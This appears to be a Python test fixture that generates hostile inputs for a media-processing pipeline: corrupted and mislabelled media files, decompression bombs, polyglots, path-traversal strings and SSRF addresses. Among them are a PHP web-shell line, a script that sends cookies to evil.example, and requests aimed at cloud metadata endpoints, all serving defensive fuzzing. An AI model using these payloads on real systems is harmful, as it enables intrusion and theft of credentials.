"""Hostile files and addresses, the same ones for the same seed."""

from __future__ import annotations

import base64
import io
import itertools
import struct
import zipfile
import zlib
from collections.abc import Iterator
from urllib.parse import quote

import numpy as np
from PIL import Image

from pipeline.records import MediaKind, Medium
from tests.data.files import film, image_file, pixels, sound_file, tone, video_file

Case = tuple[str, Medium]


def seeds() -> dict[str, Medium]:
    """One sound file of each format that is damaged below."""
    picture = Image.fromarray(pixels(24, 32))
    more = [Image.fromarray(pixels(24, 32, seed)) for seed in (1, 2)]
    image, audio, video = MediaKind.IMAGE, MediaKind.AUDIO, MediaKind.VIDEO
    return {
        "PNG": Medium(image, image_file(picture)),
        "PNG palette": Medium(image, image_file(picture.convert("P"), transparency=1)),
        "APNG": Medium(image, image_file(picture, save_all=True, append_images=more)),
        "JPEG": Medium(image, image_file(picture, "JPEG")),
        "JPEG progressive": Medium(image, image_file(picture.convert("CMYK"), "JPEG", progressive=True)),
        "GIF": Medium(image, image_file(picture, "GIF", save_all=True, append_images=more)),
        "WebP": Medium(image, image_file(picture, "WEBP")),
        "WebP animated": Medium(image, image_file(picture, "WEBP", save_all=True, append_images=more, lossless=True)),
        "BMP": Medium(image, image_file(picture.convert("P"), "BMP")),
        "TIFF": Medium(image, image_file(picture, "TIFF", compression="tiff_lzw")),
        "TIFF JPEG": Medium(image, image_file(picture, "TIFF", compression="jpeg")),
        "WAV": Medium(audio, sound_file(tone(2_000))),
        "WAV ADPCM": Medium(audio, sound_file(tone(4_000), subtype="MS_ADPCM")),
        "FLAC": Medium(audio, sound_file(tone(4_000, 2), format="FLAC")),
        "MP3": Medium(audio, sound_file(tone(8_000), format="MP3")),
        "Ogg": Medium(audio, sound_file(tone(8_000), format="OGG")),
        "Opus": Medium(audio, sound_file(tone(8_000), format="OGG", subtype="OPUS")),
        "AIFF": Medium(audio, sound_file(tone(2_000), format="AIFF")),
        "CAF": Medium(audio, sound_file(tone(2_000), format="CAF")),
        "MP4": Medium(video, video_file(num_frames=4, size=(32, 32), sound="aac")),
        "MP4 fragments": Medium(video, video_file(num_frames=4, options={"movflags": "frag_keyframe+empty_moov"})),
        "WebM": Medium(video, video_file("webm", "libvpx", num_frames=4, size=(32, 32))),
        "AVI": Medium(video, video_file("avi", "mpeg4", num_frames=4, size=(32, 32))),
        "MPEG-TS": Medium(video, video_file("mpegts", "mpeg2video", num_frames=4, size=(32, 32))),
    }


def damaged(seed: int, num_each: int) -> Iterator[Case]:
    """Files with flipped bits, cut off, with a piece overwritten, left out, repeated or put in."""
    rng = np.random.default_rng(seed)
    for name, medium in seeds().items():
        data = medium.data
        for number in range(num_each):
            # Half of the damage goes to the header, where it hurts most.
            reach = len(data) if number % 2 else min(len(data), 256)
            at, length = int(rng.integers(reach)), int(rng.integers(1, 24))
            match number % 6:
                case 0 | 1:
                    changed = bytearray(data)
                    for place in rng.integers(reach, size=rng.integers(1, 9)):
                        changed[place] ^= 1 << int(rng.integers(8))
                    made = bytes(changed)
                case 2:
                    made = data[:at]
                case 3:
                    made = data[:at] + rng.bytes(length) + data[at + length :]
                case 4:
                    made = data[:at] + rng.choice([b"\0", b"\xff", b"\x7f"]).tobytes() * 4 + data[at + 4 :]
                case _:
                    end = int(rng.integers(at, len(data)))
                    made = data[:end] + data[at:end] + data[end:] if number % 4 else data[:at] + data[end:]
            yield f"{name} damaged {number}", Medium(medium.kind, made)


def of_wrong_types(seed: int) -> Iterator[Case]:
    rng = np.random.default_rng(seed)
    for name, medium in seeds().items():
        for kind in MediaKind:
            if kind is not medium.kind:
                yield f"{name} as {kind.value}", Medium(kind, medium.data)
    texts = [b"", b"\0", b"{}", b"a,b\n1,2\n", b"#!/bin/sh\nid\n", b"<html></html>", b"%PDF-1.7\n", b"MZ" + bytes(64)]
    for kind, data in itertools.product(MediaKind, [*texts, rng.bytes(16), rng.bytes(5_000), archive()]):
        yield f"{data[:8]!r} as {kind.value}", Medium(kind, data)
    for kind, mark in itertools.product(MediaKind, (b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"fLaC", b"OggS", b"BM")):
        yield f"{mark!r} and noise as {kind.value}", Medium(kind, mark + rng.bytes(500))


def archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("a.txt", "hello")
    return buffer.getvalue()


def of_two_kinds() -> Iterator[Case]:
    """Polyglots by what is appended, and vector pictures."""
    tails = {
        "an archive": archive(),
        "a page": b"<html><script>alert(1)</script></html>",
        "a program": b"<?php system($_GET[0]); ?>".ljust(80),
        "a script": b"*/=1;fetch('//evil.example/'+document.cookie);//0123456789",
    }
    for (name, medium), (what, tail) in itertools.product(seeds().items(), tails.items()):
        yield f"{name} and {what}", Medium(medium.kind, medium.data + tail)
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' width='1e9'><script>alert(1)</script></svg>"
    entities = b"<!DOCTYPE svg [" + b"".join(b"<!ENTITY %c '&%c;&%c;'>" % (97 + n, 98 + n, 98 + n) for n in range(20))
    for name, data in [
        ("plain", svg),
        ("with entities", entities + b"]>" + svg),
        ("UTF-16", svg.decode().encode("utf-16")),
    ]:
        yield f"SVG {name}", Medium(MediaKind.IMAGE, data)


def png_chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, *chunks: bytes, bits: int = 8, colour: int = 2, rows: bytes | None = None) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    packed = zlib.compress(bytes((1 + 3 * width) * height) if rows is None else rows)
    body = png_chunk(b"IHDR", header) + b"".join(chunks) + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def replaced(data: bytes, mark: bytes, offset: int, new: bytes) -> bytes:
    """`data` with `new` at `offset` from the first `mark`."""
    at = data.index(mark) + offset
    return data[:at] + new + data[at + len(new) :]


def image_bombs() -> Iterator[tuple[str, bytes]]:
    for width, height in [(50_000, 50_000), (2**31 - 1, 1), (1, 2**31 - 1), (0, 0), (4_097, 4_097), (60_000, 6)]:
        yield f"PNG of {width}x{height}", png(width, height, rows=bytes(100))
    for bits, colour in itertools.product((0, 1, 3, 16, 32), (0, 1, 3, 6, 7)):
        yield f"PNG of {bits} bits and colour {colour}", png(8, 8, bits=bits, colour=colour)
    bomb = zlib.compress(bytes(50_000_000), 9)
    for name, body in [(b"zTXt", b"k\0\0"), (b"iTXt", b"k\0\1\0\0\0"), (b"iCCP", b"k\0\0")]:
        yield f"PNG with a bomb in {name!r}", png(8, 8, png_chunk(name, body + bomb))
        yield f"PNG with 99 bombs in {name!r}", png(8, 8, *[png_chunk(name, body + bomb)] * 99)
    yield "PNG of rows without end", png(8, 8, rows=bytes(50_000_000))
    yield "PNG of 300,000 parts", png(8, 8, *[png_chunk(b"tEXt", b"")] * 300_000)
    yield "APNG of 4 billion frames", png(8, 8, png_chunk(b"acTL", b"\xff\xff\xff\xff" + bytes(4)))
    seed = seeds()
    gif = seed["GIF"].data
    first = 13 + 3 * 2 ** ((gif[10] & 7) + 1)
    frame = b",\0\0\0\0\1\0\1\0\0\2\2D\1\0"
    yield "GIF of 100,000 frames", gif[:first] + frame * 100_000 + b";"
    yield "GIF of a large screen", gif[:6] + b"\xff\xff\xff\xff" + gif[10:]
    yield "GIF of a large frame", gif[:first] + b",\0\0\0\0\xff\xff\xff\xff\0\2\2D\1\0;"
    yield "GIF of blocks without end", gif[:first] + b"!\xfe" + b"\1x" * 3_000_000
    jpeg = seed["JPEG"].data
    yield "JPEG of 65,500x65,500", replaced(jpeg, b"\xff\xc0", 5, b"\xff\xdc\xff\xdc")
    yield "JPEG of 4,000x4,000 without pixels", replaced(jpeg, b"\xff\xc0", 5, b"\x0f\xa0\x0f\xa0")
    yield "JPEG of parts without end", jpeg[:2] + b"\xff\xfe\0\2" * 500_000 + jpeg[2:]
    yield "JPEG of fill bytes without end", jpeg[:-2] + b"\xff" * 1_000_000
    yield "JPEG of stuffed bytes without end", jpeg[:-2] + b"\xff\0" * 1_000_000 + jpeg[-2:]
    webp = seed["WebP animated"].data
    yield "WebP of a large canvas", replaced(webp, b"VP8X", 12, b"\xff\xff\xff\xff\xff\xff")
    for offset in (18, 22):
        bmp = seed["BMP"].data
        yield f"BMP of a large side at {offset}", bmp[:offset] + b"\xff\xff\xff\x7f" + bmp[offset + 4 :]
    yield "TIFF that leads to itself", b"II*\0\x08\0\0\0\x00\x00\x08\0\0\0" + bytes(8)
    fields = [
        (256, 4, 1, 4_000),
        (257, 4, 1, 4_000),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 2**30, 8),
    ]
    directory = struct.pack("<H", len(fields)) + b"".join(struct.pack("<HHII", *field) for field in fields) + bytes(4)
    yield "TIFF of a billion strips", b"II*\0\x08\0\0\0" + directory


def sound_bombs() -> Iterator[tuple[str, bytes]]:
    seed = seeds()
    wav, flac = seed["WAV"].data, seed["FLAC"].data
    for num_bytes in (10**9, 2**31 - 1, 2**32 - 1, 0):
        yield f"WAV that promises {num_bytes} bytes", replaced(wav, b"data", 4, struct.pack("<I", num_bytes))
    for num_channels in (0, 9, 1_024, 65_535):
        yield f"WAV of {num_channels} channels", replaced(wav, b"fmt ", 10, struct.pack("<H", num_channels))
    for rate in (0, 1, 999, 10**6, 2**32 - 1):
        yield f"WAV of {rate} Hz", replaced(wav, b"fmt ", 12, struct.pack("<I", rate))
    for bits in (0, 1, 7, 33, 65_535):
        yield f"WAV of {bits} bits", replaced(wav, b"fmt ", 22, struct.pack("<H", bits))
    for value in (np.nan, np.inf, -np.inf, 1e30):
        yield f"WAV of {value}", sound_file(np.full(2_000, value), subtype="FLOAT")
    yield "FLAC that promises 2**36 samples", flac[:21] + b"\xff\xff\xff\xff\xff" + flac[26:]
    yield "FLAC of 655,350 Hz for a minute", sound_file(np.zeros(60 * 655_350, np.int16), 655_350, "FLAC")
    yield "FLAC of an hour", sound_file(np.zeros(3_600 * 2_000, np.int16), 2_000, "FLAC")
    yield "MP3 with a tag of 256 MB", b"ID3\4\0\0\x7f\x7f\x7f\x7f" + seed["MP3"].data
    yield "Ogg of empty pages", (b"OggS" + bytes(23)) * 300_000
    yield "AIFF of 0 Hz", replaced(seed["AIFF"].data, b"COMM", 16, bytes(10))


def video_bombs() -> Iterator[tuple[str, bytes]]:
    mp4, avi = seeds()["MP4"].data, seeds()["AVI"].data
    most = b"\xff\xff\xff\xff"
    for box, offset in [
        (b"mvhd", 16), (b"mvhd", 20), (b"tkhd", 24), (b"mdhd", 16), (b"mdhd", 20), (b"elst", 8), (b"elst", 12),
        (b"stts", 8), (b"stts", 12), (b"stts", 16), (b"stsz", 8), (b"stsz", 12), (b"stsz", 16), (b"stco", 8),
        (b"stco", 12), (b"stsc", 8), (b"stsc", 12), (b"stsc", 16), (b"avc1", 28), (b"avcC", 4), (b"moov", -4),
        (b"trak", -4), (b"mdat", -4), (b"stsd", 8), (b"dref", 8),
    ]:  # fmt: skip
        for new in (most, bytes(4), b"\x7f\xff\xff\xff", b"\0\x0f\xff\xff"):
            yield f"MP4 with {new.hex()} at {box!r} + {offset}", replaced(mp4, box, offset, new)
    boxes = b"\0\0\0\x08moov"
    yield "MP4 of empty boxes", mp4 + b"\0\0\0\x08free" * 300_000
    for depth in (100, 10_000):
        nested = boxes
        for _ in range(depth):
            nested = struct.pack(">I", 8 + len(nested)) + b"moov" + nested
        yield f"MP4 {depth} boxes deep", mp4[:32] + nested
    yield "MP4 without its index", mp4[: mp4.index(b"moov") - 4]
    for field, offset in [(b"avih", 8), (b"avih", 24), (b"strh", 28), (b"strh", 32), (b"strh", 40), (b"strf", 12)]:
        yield f"AVI with much at {field!r} + {offset}", replaced(avi, field, offset, most)
    sizes = video_file("mpegts", "mpeg2video", size=(32, 32)) + video_file("mpegts", "mpeg2video", size=(64, 64))
    yield "MPEG-TS that changes size", sizes
    yield "MP4 of 4,000 frames", film(range(4_000), codec="mpeg4")
    yield "a playlist", b"#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
    yield "a list of files", b"ffconcat version 1.0\nfile /etc/passwd\n"


def bombs() -> Iterator[Case]:
    for kind, made in [
        (MediaKind.IMAGE, image_bombs()),
        (MediaKind.AUDIO, sound_bombs()),
        (MediaKind.VIDEO, video_bombs()),
    ]:
        for name, data in made:
            yield name, Medium(kind, data)


def media(seed: int, num_each: int) -> Iterator[Case]:
    yield from damaged(seed, num_each)
    yield from of_wrong_types(seed)
    yield from of_two_kinds()
    yield from bombs()


def addresses(port: int) -> Iterator[str]:
    """Hostile paths and addresses; `port` is that of a server on this machine, which is allowed."""
    targets = ("etc/passwd", "proc/self/environ", "dev/zero", "dev/stdin", "secret")
    climbs = ("/", "../", "../../../../", "./../", "a/../../", "//", "..//", "....//", "..;/", "~/", "a/./../")
    for target, climb in itertools.product(targets, climbs):
        yield climb + target
        yield f"file://{quote(climb + target)}"
        yield f"file:///{(climb + target).replace('.', '%2e').replace('/', '%2f')}"
        yield (climb + target).replace("/", "\\")
    yield from (
        "",
        ".",
        "..",
        "/",
        "\0",
        "a\0.png",
        "a\n.png",
        "x" * 256,
        "x/" * 2_048,
        "\ud800",
        "C:\\a",
        "C:/a",
        "\\\\h\\s",
    )
    yield from ("link-out", "link-round", "link-device", "pipe", "folder", "folder/", "large", "missing", "locked/x")
    yield from ("file://evil.example/a", "file://[", "file:///a?b", "file:a", "file:", "file:///%00", "file:///%ff")
    hosts = (
        "evil.example", "127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "[::1]", "10.0.0.1",
        "[::ffff:127.0.0.1]", "169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "[fe80::1%25lo]",
        "127.0.0.1.evil.example", "xn--e1afmkfd.example", "\uff11\uff12\uff17.0.0.1", "a" * 64 + ".example", "ex ample",
    )  # fmt: skip
    for host, scheme in itertools.product(hosts, ("http", "https")):
        yield f"{scheme}://{host}/"
        yield f"{scheme}://{host}:{port + 1}/good"
        yield f"{scheme}://127.0.0.1:{port}@{host}/"
        yield f"http://127.0.0.1:{port}/to?{scheme}://{quote(host, safe='[]:%')}/"
    base = f"http://127.0.0.1:{port}"
    yield from (
        f"{base}:1/",
        f"{base[:-1]}99999/",
        f"{base}\r\nHost: evil/",
        f"{base}\\@evil/",
        "http://",
        "http:///a",
        "http://[",
    )
    for where in (
        "file:///etc/passwd",
        "data:,x",
        "ftp://127.0.0.1/",
        "//10.0.0.1/",
        "http://[",
        "//evil.example",
        "javascript:1",
    ):
        yield f"{base}/to?{where}"
    for path in (
        "missing",
        "loop",
        "empty-redirect",
        "cut",
        "promises-much",
        "endless",
        "no-length",
        "gzip",
        "garbage",
    ):
        yield f"{base}/{path}"
    yield from (
        "ftp://127.0.0.1/a",
        "gopher://127.0.0.1/a",
        "s3://bucket/a",
        "gs://bucket/a",
        "memory://a",
        "zip::http://a/b",
    )
    yield from (
        "s3://key:secret@bucket/a",
        "s3://bucket/../a",
        "github://a:b@c/d",
        "jar:file:///a!/b",
        "javascript:alert(1)",
    )
    yield from ("data:", "data:;base64", "data:;base64,!", "data:;base64,A", "data:,%zz", "data:text/html,<script>")
    yield "data:;base64," + base64.b64encode(bytes(300_000)).decode()
